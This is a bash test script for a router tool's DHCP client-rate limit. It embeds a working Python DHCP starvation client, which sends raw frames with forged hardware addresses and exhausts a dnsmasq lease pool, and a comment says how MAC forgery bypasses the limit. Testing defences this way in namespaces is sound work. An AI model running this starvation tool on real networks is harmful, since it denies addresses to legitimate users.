#!/usr/bin/env bash
# DHCP starvation against real dnsmasq, with and without
# dhcp.PORT.client-rate (the ruleset alone, nft -f):
#   - one client sending from one Ethernet address but a new hardware
#     address (chaddr) in every request takes the whole range when nothing
#     limits it (the control: a client took 240 of 241 leases in 1.7 s);
#   - with client-rate 10/minute it gets only the burst's worth, and
#     another (honest) client still gets a lease;
#   - what the limit cannot stop, said here so nobody reads more into the
#     test: a client that also forges the frame's source MAC gets a fresh
#     bucket per frame (docs/render.md).
. "$(dirname "$0")/lib.sh"
command -v dnsmasq >/dev/null || skip "dnsmasq not installed"
command -v python3 >/dev/null || skip "python3 not installed"

conf() { # CLIENT-RATE-KEY
    cat <<EOF
hostname: r
interfaces:
  lan: { match: { name: lan }, ipv4: 192.168.80.1/24 }
zones:
  lan: { interfaces: [lan], input: drop, services: [dhcp] }
dhcp:
  lan: { range: 192.168.80.100-192.168.80.119$1 }
EOF
}
conf "" >"$T_DIR/open.yaml"
conf ", client-rate: 10/minute" >"$T_DIR/limited.yaml"
"$NFTROUTER" render -c "$T_DIR/open.yaml" nft >"$T_DIR/open.nft" || fail "render nft"
"$NFTROUTER" render -c "$T_DIR/limited.yaml" nft >"$T_DIR/limited.nft" || fail "render nft (client-rate)"

# The starving client: DISCOVER, then REQUEST for what was offered, each
# with a made-up chaddr, all from the port's own MAC. Raw frames (AF_PACKET),
# bounded by count and time. Prints the number of ACKs it got.
cat >"$T_DIR/starve.py" <<'EOF'
import os, random, select, socket, struct, sys, time

ifname, rounds, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((ifname, 0x0800))
src_mac = s.getsockname()[4]

def csum(b):
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    t = (t >> 16) + (t & 0xFFFF)
    t += t >> 16
    return ~t & 0xFFFF

def frame(payload):
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     bytes(4), b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\xff" * 6 + src_mac + b"\x08\x00" + ip + udp

def dhcp(kind, xid, chaddr, opts=b""):
    head = struct.pack("!BBBBIHH4s4s4s4s", 1, 1, 6, 0, xid, 0, 0x8000,
                       bytes(4), bytes(4), bytes(4), bytes(4))
    return (head + chaddr + bytes(10) + bytes(192) + b"\x63\x82\x53\x63" +
            bytes([53, 1, kind]) + opts + b"\xff")

def reply(xid, want, until):
    while time.time() < until:
        r, _, _ = select.select([s], [], [], max(0, until - time.time()))
        if not r:
            return None
        p = s.recv(2048)[14:]
        if len(p) < 28 + 240 or p[9] != 17 or struct.unpack("!H", p[22:24])[0] != 68:
            continue
        b = p[28:]
        if struct.unpack("!I", b[4:8])[0] != xid:
            continue
        opts, i, kind, sid = b[240:], 0, None, None
        while i < len(opts) and opts[i] != 255:
            if opts[i] == 0:
                i += 1
                continue
            code, ln = opts[i], opts[i + 1]
            val = opts[i + 2:i + 2 + ln]
            if code == 53:
                kind = val[0]
            if code == 54:
                sid = val
            i += 2 + ln
        if kind == want:
            return b[16:20], sid
    return None

acks, end = 0, time.time() + seconds
for n in range(rounds):
    if time.time() >= end:
        break
    xid = random.getrandbits(32)
    chaddr = bytes([0x02]) + os.urandom(5)
    s.send(frame(dhcp(1, xid, chaddr)))
    offer = reply(xid, 2, min(end, time.time() + 3.0))
    if not offer:
        continue
    yiaddr, sid = offer
    opts = bytes([50, 4]) + yiaddr + (bytes([54, 4]) + sid if sid else b"")
    s.send(frame(dhcp(3, xid, chaddr, opts)))
    if reply(xid, 5, min(end, time.time() + 3.0)):
        acks += 1
print(acks)
EOF

R=$(netns r) A=$(netns a) H=$(netns h) SW=$(netns sw)
# A switch joins the router's port, the attacker A and an honest host H.
veth "$R" lan "$SW" p0
veth "$A" eth0 "$SW" p1 02:00:00:00:aa:01
veth "$H" eth0 "$SW" p2 02:00:00:00:bb:01
nsx "$SW" ip link add br0 type bridge
for p in p0 p1 p2; do nsx "$SW" ip link set "$p" master br0; done
nsx "$SW" ip link set br0 up
nsx "$R" ip link set lan up
nsx "$A" ip link set eth0 up
nsx "$H" ip link set eth0 up
nsx "$R" ip addr add 192.168.80.1/24 dev lan

dhcpd() { # TAG: start a fresh dnsmasq DHCP server on lan (20 addresses)
    rm -f "$T_DIR/leases"
    bg nsx "$R" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --port=0 --user=root \
        --interface=lan --bind-interfaces --dhcp-range=192.168.80.100,192.168.80.119,255.255.255.0,1h \
        --dhcp-leasefile="$T_DIR/leases" --pid-file="$T_DIR/dnsmasq-$1.pid" \
        --log-facility="$T_DIR/dnsmasq-$1.log"
    wait_for 5 nsx "$R" sh -c "ss -Hlun 'sport = :67' | grep -q ." || fail "dnsmasq did not start"
    wait_for 5 test -s "$T_DIR/dnsmasq-$1.pid" || fail "dnsmasq wrote no pid file"
    DHCPD_PID=$(cat "$T_DIR/dnsmasq-$1.pid")
}
leases() { [ -f "$T_DIR/leases" ] && wc -l <"$T_DIR/leases" || echo 0; }

# The control: nothing limits it.
nsx "$R" nft -f "$T_DIR/open.nft" || fail "ruleset does not load"
dhcpd open
got=$(nsx "$A" timeout 60 python3 "$T_DIR/starve.py" eth0 60 20)
[ "$got" -ge 15 ] || fail "control: the starving client got only $got of 20 leases without client-rate"
pass "without client-rate: one client took $got of 20 leases ($(leases) in the lease file)"
kill "$DHCPD_PID" 2>/dev/null || true
wait_for 5 sh -c "! kill -0 $DHCPD_PID" || fail "dnsmasq did not stop"

nsx "$R" nft -f "$T_DIR/limited.nft" || fail "client-rate ruleset does not load"
dhcpd limited
got=$(nsx "$A" timeout 60 python3 "$T_DIR/starve.py" eth0 60 20)
# The same 20 s: burst 5 packets, then 10 a minute (3 more); each lease
# takes two packets.
[ "$got" -le 4 ] || fail "client-rate 10/minute: the starving client still took $got leases in 20 s"
# dnsmasq pings an address before offering it and answers one DISCOVER
# at a time meanwhile: the honest client may wait a few seconds.
out=$(nsx "$H" timeout 40 udhcpc -i eth0 -n -q -f -t 8 -T 3 -s /bin/true 2>&1) ||
    fail "an honest client got no lease next to the limited one: $out"
pass "client-rate 10/minute: the starving client took $got leases in 20 s; an honest client still got one"
